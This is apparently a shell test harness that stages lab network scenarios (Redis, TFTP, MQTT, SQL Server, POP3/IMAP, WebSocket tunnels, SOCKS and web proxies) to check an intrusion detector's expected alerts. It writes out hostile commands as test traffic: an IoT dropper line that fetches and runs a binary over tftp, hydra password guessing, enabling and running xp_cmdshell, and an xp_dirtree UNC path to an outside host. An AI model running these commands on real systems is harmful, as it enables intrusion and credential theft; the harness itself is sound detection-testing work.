  expect redis "Redis 7.0 on the server 10.77.1.10 with a password (protected configs settable at run time; MODULE disabled). The application server 10.77.2.22 signs in and sets and reads keys. 10.77.2.24 runs hydra 9.4 with 30 wrong passwords. 10.77.2.26, with the password, moves the database file into a cron folder (CONFIG SET dir and dbfilename, a job as a value, SAVE: accepted), makes the server replicate from 198.51.100.10:6379 and stops it, tries MODULE LOAD and the CVE-2022-0543 Lua escape (both refused). device.new may fire for the server network's hosts, whose first frames these are." \
    '[{"rule": "auth.bruteforce", "source": {"ip": "10.77.2.24"}, "destination": {"ip": "10.77.1.10", "port": 6379}, "evidence": {"service": "redis", "mode": "failures"}},
    {"rule": "redis.exploitation", "source": {"ip": "10.77.2.26"}, "destination": {"ip": "10.77.1.10", "port": 6379}, "evidence": {"accepted": true}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_tftp() {
  # tftpd-hpa on the Internet host 198.51.100.10 serves what an IoT dropper fetches (a shell script and
  # a Linux program of the lab's own making); on the server 10.77.1.10 it takes configuration backups.
  mkdir -p "$WORK/tftp-inet" "$WORK/tftp-srv"
  printf '#!/bin/sh\ncd /tmp && tftp -g -r mips 198.51.100.10 && chmod +x mips && ./mips\n' >"$WORK/tftp-inet/bins.sh"
  python3 -c '
import struct, sys
b = bytearray(3000)
b[0:16] = b"\x7fELF\x01\x02\x01\x00" + bytes(8)
b[16:20] = struct.pack(">HH", 2, 8)
for i in range(64, 3000): b[i] = (i * 7) & 0xff
open(sys.argv[1], "wb").write(b)' "$WORK/tftp-inet/mips"
  chmod 644 "$WORK/tftp-inet/"*
  chmod 777 "$WORK/tftp-srv"
  scen_bg inet in.tftpd -L -u root -a 198.51.100.10:69 -s "$WORK/tftp-inet"
  scen_bg srv in.tftpd -L -u root -c -a 10.77.1.10:69 -s "$WORK/tftp-srv"
  wait_listen_udp inet 69 && wait_listen_udp srv 69
  # The camera 10.77.2.27 runs a dropper's commands with BusyBox tftp: the script, then the program (1,024-byte blocks).
  nsx ws27 timeout 20 busybox tftp -g -r bins.sh -l "$WORK/ws27-bins.sh" 198.51.100.10 2>/dev/null
  nsx ws27 timeout 20 busybox tftp -g -b 1024 -r mips -l "$WORK/ws27-mips" 198.51.100.10 2>/dev/null
  # The router 10.77.2.22 backs up its configuration to the server with tftp-hpa, then asks for a file that is not there.
  printf 'hostname lab-router\ninterface eth0\n ip address 10.77.2.22 255.255.255.0\n' >"$WORK/router.cfg"
  (cd "$WORK" && nsx ws22 timeout 20 tftp -m octet 10.77.1.10 -c put router.cfg)
  (cd "$WORK" && nsx ws22 timeout 20 tftp 10.77.1.10 -c get missing.cfg >/dev/null 2>&1) || true
  stop_capture
  cmp -s "$WORK/tftp-inet/mips" "$WORK/ws27-mips" || { log "tftp: the program did not arrive whole"; return 1; }
  cmp -s "$WORK/router.cfg" "$WORK/tftp-srv/router.cfg" || { log "tftp: the backup did not arrive whole"; return 1; }
  require tftp 2 "udp dst port 69 and src host 10.77.2.27"
  require tftp 3 "udp and src host 198.51.100.10 and dst host 10.77.2.27 and not src port 69"
  require tftp 2 "udp dst port 69 and src host 10.77.2.22"
  expect tftp "tftpd-hpa 5.2 on the Internet host 198.51.100.10 and on the server 10.77.1.10. The camera 10.77.2.27 fetches a shell script and a 3,000-byte Linux program of the lab's making with BusyBox 1.35 tftp (the program with 1,024-byte blocks, agreed by OACK); the router 10.77.2.22 uploads its configuration to the server with tftp-hpa, then asks for a file that does not exist (error 1). device.new may fire for the server network's hosts, whose first frames these are." \
    '[{"rule": "tftp.executable_download", "source": {"ip": "10.77.2.27"}, "destination": {"ip": "198.51.100.10", "port": 69}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_mqtt() {
  local i pub="mosquitto_pub -h 10.77.1.10 -p 1883 -t lab/telemetry -m 21.5"
  # Mosquitto 2.0 on the server 10.77.1.10 with a password file (user sensor); anonymous clients refused.
  mkdir -p "$WORK/mqtt"
  : >"$WORK/mqtt/passwd"
  mosquitto_passwd -b "$WORK/mqtt/passwd" sensor Sensor-Pass-2026
  cat >"$WORK/mqtt/mosquitto.conf" <<EOF2
listener 1883 10.77.1.10
allow_anonymous false
password_file $WORK/mqtt/passwd
persistence false
log_dest stderr
EOF2
  scen_bg srv mosquitto -c "$WORK/mqtt/mosquitto.conf"
  wait_listen srv 1883
  # The sensor 10.77.2.22 publishes with its password, over MQTT 3.1.1 and 5.0.
  nsx ws22 timeout 10 $pub -i sensor-22 -u sensor -P Sensor-Pass-2026
  nsx ws22 timeout 10 $pub -i sensor-22 -u sensor -P Sensor-Pass-2026 -V mqttv5
  # ...its status as a retained message with QoS 1, and an alarm with QoS 2.
  nsx ws22 timeout 10 mosquitto_pub -h 10.77.1.10 -p 1883 -i sensor-22 -u sensor -P Sensor-Pass-2026 -t lab/status -m online -q 1 -r
  nsx ws22 timeout 10 mosquitto_pub -h 10.77.1.10 -p 1883 -i sensor-22 -u sensor -P Sensor-Pass-2026 -t lab/alarm -m door-open -q 2
  # The dashboard 10.77.2.21 drops an old subscription, subscribes to lab/# with QoS 1 and gets the retained status.
  nsx ws21 timeout 10 mosquitto_sub -h 10.77.1.10 -p 1883 -i dash-21 -u sensor -P Sensor-Pass-2026 -U lab/old -t 'lab/#' -q 1 -C 1 -W 5 >"$WORK/mqtt/dash.txt"
  # 10.77.2.23 connects without credentials (refused: not authorized).
  nsx ws23 timeout 10 $pub -i probe-23 >/dev/null 2>&1 || true
  # 10.77.2.24 guesses the sensor's password with the stock client: 30 tries, none right.
  for i in $(seq 1 30); do
    nsx ws24 timeout 10 $pub -i "guess-$i" -u sensor -P "sensor$i" >/dev/null 2>&1 || true
  done
  stop_capture
  require mqtt 30 "tcp[tcpflags] == tcp-syn and src host 10.77.2.24 and dst port 1883"
  require mqtt 4 "tcp[tcpflags] == tcp-syn and src host 10.77.2.22 and dst port 1883"
  grep -qx online "$WORK/mqtt/dash.txt" || { log "mqtt: the dashboard did not get the retained status"; return 1; }
  expect mqtt "Mosquitto 2.0 on the server 10.77.1.10 with a password file, anonymous clients refused. The sensor 10.77.2.22 publishes with its password over MQTT 3.1.1 and 5.0 (mosquitto_pub, QoS 0), then a retained status with QoS 1 and an alarm with QoS 2; the dashboard 10.77.2.21 unsubscribes from lab/old, subscribes to lab/# with QoS 1 and receives the retained status (mosquitto_sub); 10.77.2.23 connects without credentials (not authorized); 10.77.2.24 tries 30 wrong passwords for user sensor with mosquitto_pub, one connection each. device.new may fire for the server network's hosts, whose first frames these are." \
    '[{"rule": "auth.bruteforce", "source": {"ip": "10.77.2.24"}, "destination": {"ip": "10.77.1.10", "port": 1883}, "evidence": {"service": "mqtt", "mode": "failures"}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_open_services() {
  local pass="Queue-Pass-2026" open="redis-cli -h 10.77.1.10 -p 6379" locked="redis-cli -h 10.77.1.10 -p 6380 --no-auth-warning"
  # Two Redis 7.0 servers on 10.77.1.10: 6379 without a password (protected mode off, as on the
  # servers Internet scanners find), 6380 with one. Nothing is saved to disk.
  mkdir -p "$WORK/open-redis"
  for port in 6379 6380; do
    {
      printf 'bind 10.77.1.10\nport %s\nprotected-mode no\ndir %s\nsave ""\nappendonly no\ndaemonize no\n' "$port" "$WORK/open-redis"
      [ "$port" = 6380 ] && printf 'requirepass %s\n' "$pass"
    } >"$WORK/open-redis/$port.conf"
    scen_bg srv redis-server "$WORK/open-redis/$port.conf"
  done
  # Mosquitto 2.0 on 10.77.1.10 letting anyone in (allow_anonymous true).
  mkdir -p "$WORK/open-mqtt"
  printf 'listener 1883 10.77.1.10\nallow_anonymous true\npersistence false\nlog_dest stderr\n' >"$WORK/open-mqtt/mosquitto.conf"
  scen_bg srv mosquitto -c "$WORK/open-mqtt/mosquitto.conf"
  wait_listen srv 6379 && wait_listen srv 6380 && wait_listen srv 1883
  # The application server 10.77.2.22 uses the open cache and the broker from inside.
  nsx ws22 timeout 10 $open SET session:42 '{"user":"jdoe"}' >/dev/null
  nsx ws22 timeout 10 $open GET session:42 >/dev/null
  nsx ws22 timeout 10 mosquitto_pub -h 10.77.1.10 -p 1883 -i app-22 -t lab/orders -m 7
  # The Internet host 198.51.100.10 looks around as a scanner does: the open server answers...
  nsx inet timeout 10 $open INFO server >/dev/null
  nsx inet timeout 10 $open CONFIG GET dir >/dev/null
  nsx inet timeout 10 $open KEYS '*' >/dev/null
  # ...the protected one refuses (NOAUTH) until given its password.
  nsx inet timeout 10 $locked INFO server >/dev/null
  nsx inet timeout 10 $locked -a "$pass" DBSIZE >/dev/null
  # It publishes to the broker and reads a retained topic without credentials.
  nsx inet timeout 10 mosquitto_pub -h 10.77.1.10 -p 1883 -i scan-01 -t lab/probe -m hello
  nsx inet timeout 10 mosquitto_sub -h 10.77.1.10 -p 1883 -i scan-02 -t 'lab/#' -W 1 >/dev/null 2>&1 || true
  stop_capture
  require open-services 3 "tcp[tcpflags] == tcp-syn and src host 198.51.100.10 and dst port 6379"
  require open-services 2 "tcp[tcpflags] == tcp-syn and src host 198.51.100.10 and dst port 6380"
  require open-services 2 "tcp[tcpflags] == tcp-syn and src host 198.51.100.10 and dst port 1883"
  expect open-services "Redis 7.0 on the server 10.77.1.10: port 6379 without a password (protected mode off), port 6380 with one; Mosquitto 2.0 on 10.77.1.10 allowing anonymous clients. The application server 10.77.2.22 sets and reads a key on the open Redis and publishes to the broker without credentials. The Internet host 198.51.100.10 runs INFO, CONFIG GET dir and KEYS * on the open Redis (answered), INFO on the protected one (NOAUTH) and DBSIZE with its password (sent in clear), then publishes (mosquitto_pub) and subscribes (mosquitto_sub) without credentials. device.new may fire for the server network's hosts, whose first frames these are." \
    '[{"rule": "auth.anonymous_access", "source": {"ip": "198.51.100.10"}, "destination": {"ip": "10.77.1.10", "port": 6379}, "evidence": {"service": "redis", "commands": ["INFO", "CONFIG GET", "KEYS"]}},
    {"rule": "auth.anonymous_access", "source": {"ip": "198.51.100.10"}, "destination": {"ip": "10.77.1.10", "port": 1883}, "evidence": {"service": "mqtt", "client_ids": ["scan-01", "scan-02"]}},
    {"rule": "auth.cleartext", "source": {"ip": "198.51.100.10"}, "destination": {"ip": "10.77.1.10", "port": 6380}, "evidence": {"service": "redis", "internet": true}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_mssql() {
  local i login
  # A SQL Server login endpoint on the server 10.77.1.10 (../tds-server.py: SQL Server is not in
  # Debian), without encryption, so logins cross in clear; user app, password App-Pass-2026.
  scen_bg srv /usr/bin/python3 "$LAB_DIR/tds-server.py" 10.77.1.10 1433 app App-Pass-2026 60 90
  wait_listen srv 1433
  # Impacket's TDS client (Debian's python3-impacket), as applications and intruders use it.
  login='import sys
from impacket import tds
c = tds.MSSQL(sys.argv[1], 1433)
c.connect()
print(c.login(None, sys.argv[2], sys.argv[3]))
c.disconnect()'
  # The application server 10.77.2.22 signs in twice; the Internet host 198.51.100.10 signs in once.
  nsx ws22 timeout 10 /usr/bin/python3 -c "$login" 10.77.1.10 app App-Pass-2026 >>"$WORK/mssql.txt"
  nsx ws22 timeout 10 /usr/bin/python3 -c "$login" 10.77.1.10 app App-Pass-2026 >>"$WORK/mssql.txt"
  nsx inet timeout 10 /usr/bin/python3 -c "$login" 10.77.1.10 app App-Pass-2026 >>"$WORK/mssql.txt"
  # 10.77.2.26, holding the password, turns the server against its host: xp_cmdshell on and run,
  # and a UNC path on the Internet host (the server's NTLM sign-in would go there; nothing listens).
  nsx ws26 timeout 10 /usr/bin/python3 -c "$login
c = tds.MSSQL(sys.argv[1], 1433)
c.connect()
c.login(None, sys.argv[2], sys.argv[3])
for q in (\"EXEC sp_configure 'show advanced options', 1; RECONFIGURE;\", \"EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;\",
          \"EXEC master..xp_cmdshell 'whoami /all'\", \"EXEC master..xp_dirtree '\\\\\\\\198.51.100.10\\\\share'\"):
    c.sql_query(q)
c.disconnect()" 10.77.1.10 app App-Pass-2026 >>"$WORK/mssql.txt"
  # 10.77.2.24 guesses sa's password with hydra's mssql module: 20 words, none right.
  for i in $(seq 1 20); do printf 'sql%02d\n' "$i"; done >"$WORK/mssql-passwords.txt"
  (cd "$WORK" && nsx ws24 timeout 120 hydra -I -l sa -P "$WORK/mssql-passwords.txt" -t 4 mssql://10.77.1.10 >"$WORK/logs/hydra-mssql.txt" 2>&1) || true
  stop_capture
  [ "$(grep -c True "$WORK/mssql.txt")" = 4 ] || { log "mssql: the sign-ins did not succeed: $(cat "$WORK/mssql.txt")"; return 1; }
  grep -q "0 valid password" "$WORK/logs/hydra-mssql.txt" || { log "mssql: $(tail -n 3 "$WORK/logs/hydra-mssql.txt")"; return 1; }
  require mssql 20 "tcp[tcpflags] == tcp-syn and src host 10.77.2.24 and dst port 1433"
  expect mssql "A SQL Server login endpoint (test/lab/tds-server.py, TDS 7.4 without encryption: logins in clear) on the server 10.77.1.10, user app. The application server 10.77.2.22 signs in twice and the Internet host 198.51.100.10 once with Impacket's TDS client; 10.77.2.26 signs in, turns xp_cmdshell on, runs whoami through it and makes the server list a UNC path on 198.51.100.10 (xp_dirtree); 10.77.2.24 runs hydra 9.4's mssql module with 20 wrong passwords for sa. device.new may fire for the server network's hosts, whose first frames these are." \
    '[{"rule": "auth.bruteforce", "source": {"ip": "10.77.2.24"}, "destination": {"ip": "10.77.1.10", "port": 1433}, "evidence": {"service": "mssql", "mode": "failures"}},
    {"rule": "auth.cleartext", "source": {"ip": "198.51.100.10"}, "destination": {"ip": "10.77.1.10", "port": 1433}, "evidence": {"service": "mssql", "internet": true}},
    {"rule": "mssql.command_exec", "source": {"ip": "10.77.2.26"}, "destination": {"ip": "10.77.1.10", "port": 1433}, "evidence": {"kinds": ["enable_xp_cmdshell", "xp_cmdshell", "unc_path"], "user": "app"}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_mail_fetch() {
  # A mailbox on the Internet host, read over plain POP3 (../pop3-server.py): the invoice in it
  # carries the lab's program.
  pe_program "$WORK/mail-program.exe"
  scen_bg inet python3 "$LAB_DIR/pop3-server.py" 198.51.100.10 110 jdoe Winter-Mail-2026 "$WORK/mail-program.exe" 3 60
  wait_listen inet 110
  # 10.77.2.20's mail client: a wrong password first, then lists the mailbox and fetches both messages.
  nsx ws20 curl -s -o /dev/null --noproxy '*' --max-time 10 'pop3://198.51.100.10/' -u 'jdoe:Autumn-Mail-2026' || true
  nsx ws20 curl -s -o /dev/null --noproxy '*' --max-time 10 'pop3://198.51.100.10/1' -u 'jdoe:Winter-Mail-2026'
  nsx ws20 curl -s -o "$WORK/fetched.eml" --noproxy '*' --max-time 10 'pop3://198.51.100.10/2' -u 'jdoe:Winter-Mail-2026'
  stop_capture
  grep -q 'invoice.exe' "$WORK/fetched.eml" || { log "mail-fetch: the invoice did not arrive"; return 1; }
  require mail-fetch 3 "tcp port 110 and tcp[tcpflags] & tcp-syn != 0 and src host 10.77.2.20"
  expect mail-fetch "POP3 in clear from 10.77.2.20 (curl 7.88) to ../pop3-server.py on the Internet host 198.51.100.10: a wrong password, then two sign-ins as jdoe fetching a note and an invoice with the lab's Windows program attached as invoice.exe. With a list naming the program's digest, file.bad_hash fires too (the demo's intel does). device.new may fire for the server network's hosts, whose first frames these are." \
    '[{"rule": "auth.cleartext", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "198.51.100.10", "port": 110}, "evidence": {"service": "pop3", "users": ["jdoe"], "logins": 3, "accepted": 2}},
    {"rule": "smtp.executable_attachment", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "198.51.100.10", "port": 110}, "evidence": {"protocol": "POP3", "file_name": "invoice.exe"}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

# Dovecot on the Internet host, IMAP in clear on 143: a passwd-file user jdoe whose mailbox is a
# Maildir in DIR (INBOX, and the folders named after DIR, each created empty).
start_dovecot() {
  local d=$1 folder
  shift
  mkdir -p "$d/run" "$d/home/jdoe/Maildir/cur" "$d/home/jdoe/Maildir/new" "$d/home/jdoe/Maildir/tmp"
  for folder in "$@"; do mkdir -p "$d/home/jdoe/Maildir/.$folder/cur" "$d/home/jdoe/Maildir/.$folder/new" "$d/home/jdoe/Maildir/.$folder/tmp"; done
  echo 'jdoe:{PLAIN}Winter-Mail-2026' >"$d/users"
  chown -R nobody:nogroup "$d/home"
  cat >"$d/dovecot.conf" <<EOF2
protocols = imap
listen = 198.51.100.10
base_dir = $d/run
state_dir = $d/run
log_path = $WORK/logs/dovecot.log
ssl = no
disable_plaintext_auth = no
auth_mechanisms = plain login
passdb {
  driver = passwd-file
  args = scheme=PLAIN username_format=%u $d/users
}
userdb {
  driver = static
  args = uid=nobody gid=nogroup home=$d/home/%u
}
mail_location = maildir:~/Maildir
EOF2
  scen_bg inet dovecot -F -c "$d/dovecot.conf"
  wait_listen inet 143
}

# An invoice with the lab's program attached as invoice.exe, CRLF lines: mail_invoice PROGRAM OUT FROM TO.
mail_invoice() {
  python3 - "$@" <<'EOF2'
import sys
from email.message import EmailMessage
m = EmailMessage()
m['From'] = sys.argv[3]
m['To'] = sys.argv[4]
m['Subject'] = 'Invoice 4471 overdue'
m.set_content('Please find the invoice attached.\n')
m.add_attachment(open(sys.argv[1], 'rb').read(), maintype='application', subtype='octet-stream', filename='invoice.exe')
open(sys.argv[2], 'wb').write(m.as_bytes().replace(b'\n', b'\r\n'))
EOF2
}

scenario_mail_imap() {
  # Dovecot on the Internet host; the mailbox holds an invoice with the lab's program attached.
  local d="$WORK/dovecot"
  mkdir -p "$d/home/jdoe/Maildir/new"
  pe_program "$WORK/imap-program.exe"
  mail_invoice "$WORK/imap-program.exe" "$d/home/jdoe/Maildir/new/1.lab" billing@invoices.example jdoe@lab.example
  start_dovecot "$d"
  # 10.77.2.21's mail client: a wrong password, then the invoice fetched whole (UID FETCH BODY[]).
  nsx ws21 curl -s -o /dev/null --noproxy '*' --max-time 10 'imap://198.51.100.10/INBOX' -u 'jdoe:Autumn-Mail-2026' || true
  nsx ws21 curl -s -o "$WORK/imap-fetched.eml" --noproxy '*' --max-time 10 'imap://198.51.100.10/INBOX;UID=1' -u 'jdoe:Winter-Mail-2026'
  # 10.77.2.22's mail client fetches the same message in 16,384-octet pieces (UID FETCH BODY.PEEK[]<origin.16384>),
  # as Thunderbird fetches large messages; at most 64 pieces.
  nsx ws22 timeout 20 python3 - "$WORK/imap-pieces.eml" <<'EOF2'
import imaplib, sys
m = imaplib.IMAP4('198.51.100.10', 143, timeout=10)
m.login('jdoe', 'Winter-Mail-2026')
m.select('INBOX', readonly=True)
got, size = b'', 16384
for _ in range(64):
    typ, data = m.uid('FETCH', '1', '(UID BODY.PEEK[]<%d.%d>)' % (len(got), size))
    piece = data[0][1] if typ == 'OK' and data and isinstance(data[0], tuple) else b''
    got += piece
    if len(piece) < size:
        break
m.logout()
open(sys.argv[1], 'wb').write(got)
EOF2
  stop_capture
  grep -q 'invoice.exe' "$WORK/imap-fetched.eml" || { log "mail-imap: the invoice did not arrive: $(tail -n 3 "$WORK/logs/dovecot.log")"; return 1; }
  cmp -s "$WORK/imap-fetched.eml" "$WORK/imap-pieces.eml" || { log "mail-imap: the piecewise fetch did not give the same message"; return 1; }
  require mail-imap 2 "tcp port 143 and tcp[tcpflags] & tcp-syn != 0 and src host 10.77.2.21"
  require mail-imap 1 "tcp port 143 and tcp[tcpflags] & tcp-syn != 0 and src host 10.77.2.22"
  expect mail-imap "IMAP in clear from 10.77.2.21 (curl 7.88) to Dovecot 2.3 on the Internet host 198.51.100.10: a wrong password, then a sign-in as jdoe fetching an invoice with the lab's Windows program attached as invoice.exe (UID FETCH BODY[]); then 10.77.2.22 (Python imaplib) signs in as jdoe and fetches the same message in 16,384-octet pieces (UID FETCH BODY.PEEK[]<origin.16384>, as Thunderbird fetches large messages). With a list naming the program's digest, file.bad_hash fires too. device.new may fire for the server network's hosts, whose first frames these are." \
    '[{"rule": "auth.cleartext", "source": {"ip": "10.77.2.21"}, "destination": {"ip": "198.51.100.10", "port": 143}, "evidence": {"service": "imap", "users": ["jdoe"], "clients": ["10.77.2.21", "10.77.2.22"], "logins": 3, "accepted": 2}},
    {"rule": "smtp.executable_attachment", "source": {"ip": "10.77.2.21"}, "destination": {"ip": "198.51.100.10", "port": 143}, "evidence": {"protocol": "IMAP", "file_name": "invoice.exe"}},
    {"rule": "smtp.executable_attachment", "source": {"ip": "10.77.2.22"}, "destination": {"ip": "198.51.100.10", "port": 143}, "evidence": {"protocol": "IMAP", "file_name": "invoice.exe"}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_mail_upload() {
  # Dovecot on the Internet host, an empty mailbox with a Sent folder; mail clients upload messages
  # with APPEND, as they keep a copy of what they send (or as files are put in a mailbox to be taken).
  local d="$WORK/dovecot-up"
  pe_program "$WORK/upload-program.exe"
  mail_invoice "$WORK/upload-program.exe" "$WORK/upload.eml" jdoe@lab.example ap@partner.example
  start_dovecot "$d" Sent
  # 10.77.2.23 (curl): an upload to a folder that does not exist (refused), then one to Sent.
  nsx ws23 curl -s --noproxy '*' --max-time 10 -T "$WORK/upload.eml" 'imap://198.51.100.10/NoSuchFolder' -u 'jdoe:Winter-Mail-2026' || true
  nsx ws23 curl -s --noproxy '*' --max-time 10 -T "$WORK/upload.eml" 'imap://198.51.100.10/Sent' -u 'jdoe:Winter-Mail-2026'
  # 10.77.2.20 (Python imaplib): the same message into INBOX as a draft.
  nsx ws20 timeout 20 python3 - "$WORK/upload.eml" <<'EOF2'
import imaplib, sys
m = imaplib.IMAP4('198.51.100.10', 143, timeout=10)
m.login('jdoe', 'Winter-Mail-2026')
typ, _ = m.append('INBOX', '(\\Draft)', None, open(sys.argv[1], 'rb').read())
assert typ == 'OK', typ
m.logout()
EOF2
  stop_capture
  [ "$(find "$d/home/jdoe/Maildir/.Sent" "$d/home/jdoe/Maildir/new" "$d/home/jdoe/Maildir/cur" -type f -name '*,*' | wc -l)" -ge 2 ] \
    || { log "mail-upload: the uploads did not arrive: $(tail -n 3 "$WORK/logs/dovecot.log")"; return 1; }
  require mail-upload 2 "tcp port 143 and tcp[tcpflags] & tcp-syn != 0 and src host 10.77.2.23"
  require mail-upload 1 "tcp port 143 and tcp[tcpflags] & tcp-syn != 0 and src host 10.77.2.20"
  expect mail-upload "IMAP in clear to Dovecot 2.3 on the Internet host 198.51.100.10, jdoe signed in: 10.77.2.23 (curl 7.88) uploads an invoice with the lab's Windows program attached as invoice.exe with APPEND, first to a folder that does not exist (Dovecot refuses it before its continuation, so no message crosses), then to Sent; 10.77.2.20 (Python imaplib) uploads the same message into INBOX as a draft. device.new may fire for the server network's hosts, whose first frames these are." \
    '[{"rule": "auth.cleartext", "source": {"ip": "10.77.2.23"}, "destination": {"ip": "198.51.100.10", "port": 143}, "evidence": {"service": "imap", "users": ["jdoe"]}},
    {"rule": "smtp.executable_attachment", "source": {"ip": "10.77.2.23"}, "destination": {"ip": "198.51.100.10", "port": 143}, "evidence": {"protocol": "IMAP", "file_name": "invoice.exe"}},
    {"rule": "smtp.executable_attachment", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "198.51.100.10", "port": 143}, "evidence": {"protocol": "IMAP", "file_name": "invoice.exe"}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_ws_tunnel() {
  # The relay on the Internet host hands the tunnel to an SSH server on its own loopback (not captured),
  # as chisel's server answers the SSH inside its WebSocket itself.
  local d="$WORK/ws-sshd"
  mkdir -p "$d"
  ssh-keygen -q -t ed25519 -N '' -C lab -f "$d/key"
  cat >"$d/sshd_config" <<EOF2
ListenAddress 127.0.0.1:2222
HostKey $d/key
PidFile $d/sshd.pid
UsePAM no
PasswordAuthentication no
KbdInteractiveAuthentication no
StrictModes no
UseDNS no
EOF2
  printf '#!/bin/sh\nmount -t tmpfs -o mode=755 tmpfs /run || exit 1\nmkdir -p /run/sshd\nexec /usr/sbin/sshd -D -e -f %s/sshd_config\n' "$d" >"$d/run.sh"
  chmod +x "$d/run.sh"
  scen_bg inet unshare -m --propagation private "$d/run.sh"
  scen_bg inet python3 "$LAB_DIR/ws-tunnel.py" server 198.51.100.10 8088 127.0.0.1 2222 2 60
  wait_listen inet 2222 && wait_listen inet 8088
  # 10.77.2.21: OpenSSH through the WebSocket (its ProxyCommand is the tunnel's client end) with no key:
  # the key exchange completes inside the frames, the sign-in is refused.
  nsx ws21 timeout 30 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=10 \
    -o ProxyCommand="python3 $LAB_DIR/ws-tunnel.py client 198.51.100.10 8088" nobody@relay true 2>"$WORK/logs/ws-ssh.txt" || true
  stop_capture
  grep -q 'Permission denied' "$WORK/logs/ws-ssh.txt" || { log "ws-tunnel: ssh did not reach the sign-in: $(tail -n 3 "$WORK/logs/ws-ssh.txt")"; return 1; }
  require ws-tunnel 1 "tcp dst port 8088 and src host 10.77.2.21 and tcp[tcpflags] & tcp-syn != 0"
  expect ws-tunnel "A chisel-style tunnel (test/lab/ws-tunnel.py): 10.77.2.21 opens a WebSocket to 198.51.100.10:8088 offering the chisel-v3 subprotocol (Go-http-client/1.1), and OpenSSH runs through it (the relay hands the stream to an SSH server on the Internet host's loopback); the key exchange completes in binary frames, the sign-in is refused (no key). device.new may fire for the hosts whose first frames these are." \
    '[{"rule": "http.websocket_tunnel", "source": {"ip": "10.77.2.21"}, "destination": {"ip": "198.51.100.10", "port": 8088}, "evidence": {"protocol": "ssh", "subprotocol": "chisel-v3", "uri": "/ws"}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_socks() {
  # A SOCKS proxy on the server 10.77.1.10: OpenSSH's dynamic forwarding (ssh -D) into its own sshd, so the
  # proxy's outgoing connections leave from 10.77.1.10 itself.
  scen_bg srv sshpass -p "$LAB_PASS" ssh "${ssh_opts[@]}" -N -D 10.77.1.10:1080 "$LAB_USER@10.77.1.10"
  wait_listen srv 1080
  # 10.77.2.21: a web page through it (SOCKS 5, name resolved by the proxy); 10.77.2.23: the same with SOCKS 4.
  nsx ws21 curl -s -o /dev/null --max-time 10 --socks5-hostname 10.77.1.10:1080 http://198.51.100.10/
  nsx ws23 curl -s -o /dev/null --max-time 10 --socks4 10.77.1.10:1080 http://198.51.100.10/
  # 10.77.2.22: an SSH session through it (ncat as the ProxyCommand, SOCKS 5): a shell on the server by way of its proxy.
  nsx ws22 timeout 20 sshpass -p "$LAB_PASS" ssh "${ssh_opts[@]}" \
    -o ProxyCommand="ncat --proxy 10.77.1.10:1080 --proxy-type socks5 %h %p" "$LAB_USER@10.77.1.10" 'id -un' >"$WORK/logs/socks-ssh.txt" 2>&1
  stop_capture
  grep -q "$LAB_USER" "$WORK/logs/socks-ssh.txt" || { log "socks: the SSH session through the proxy failed: $(tail -n 3 "$WORK/logs/socks-ssh.txt")"; return 1; }
  require socks 3 "tcp dst port 1080 and tcp[tcpflags] & tcp-syn != 0"
  expect socks "OpenSSH's dynamic forwarding (ssh -D 10.77.1.10:1080) makes the server 10.77.1.10 a SOCKS proxy. Through it: 10.77.2.21 fetches http://198.51.100.10/ with curl (SOCKS 5, the name resolved by the proxy), 10.77.2.23 the same with SOCKS 4, and 10.77.2.22 signs in to 10.77.1.10 over SSH with ncat --proxy-type socks5 as its ProxyCommand. device.new may fire for the hosts whose first frames these are." \
    '[{"rule": "net.proxy_tunnel", "source": {"ip": "10.77.2.22"}, "destination": {"ip": "10.77.1.10", "port": 1080}, "evidence": {"via": "socks5", "protocol": "ssh", "target": "10.77.1.10:22"}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_external_proxy() {
  # Proxies on the Internet host: microsocks (SOCKS 5) on 198.51.100.10:1080 and ncat's web proxy on 203.0.113.66:3128.
  # The same two on the server 10.77.1.10, reachable from the Internet: open proxies.
  scen_bg inet microsocks -i 198.51.100.10 -p 1080
  scen_bg inet ncat -lk 203.0.113.66 3128 --proxy-type http
  scen_bg srv microsocks -i 10.77.1.10 -p 1080
  scen_bg srv ncat -lk 10.77.1.10 3128 --proxy-type http
  wait_listen inet 1080 && wait_listen inet 3128 && wait_listen srv 1080 && wait_listen srv 3128
  # Outbound: 10.77.2.21 fetches a page through the Internet SOCKS proxy (name resolved by the proxy);
  # 10.77.2.23 through the Internet web proxy (absolute URI), twice; 10.77.2.20 through it with a CONNECT.
  nsx ws21 curl -s -o /dev/null --max-time 10 --socks5-hostname 198.51.100.10:1080 http://198.51.100.10/
  nsx ws23 curl -s -o /dev/null -o /dev/null --max-time 10 -x http://203.0.113.66:3128 http://198.51.100.10:8080/ http://198.51.100.10/
  nsx ws20 curl -s -o /dev/null --max-time 10 -p -x http://203.0.113.66:3128 http://198.51.100.10/
  # Inbound: the Internet host 198.51.100.10 reaches 10.77.2.21's port 5985 through the server's SOCKS proxy and with a CONNECT through its web proxy.
  nsx inet curl -s -o /dev/null --max-time 10 --socks5 10.77.1.10:1080 http://10.77.2.21:5985/wsman || true
  nsx inet curl -s -o /dev/null --max-time 10 -p -x http://10.77.1.10:3128 http://10.77.2.21:5985/wsman || true
  # Controls: 10.77.2.22 uses the server's proxies from inside (the site's own), for an Internet page.
  nsx ws22 curl -s -o /dev/null --max-time 10 -x http://10.77.1.10:3128 http://198.51.100.10/
  nsx ws22 curl -s -o /dev/null --max-time 10 --socks5 10.77.1.10:1080 http://198.51.100.10:8080/
  stop_capture
  require external-proxy 1 "tcp dst port 1080 and dst host 198.51.100.10 and tcp[tcpflags] & tcp-push != 0"
  require external-proxy 2 "tcp dst port 3128 and dst host 203.0.113.66 and tcp[tcpflags] & tcp-syn != 0"
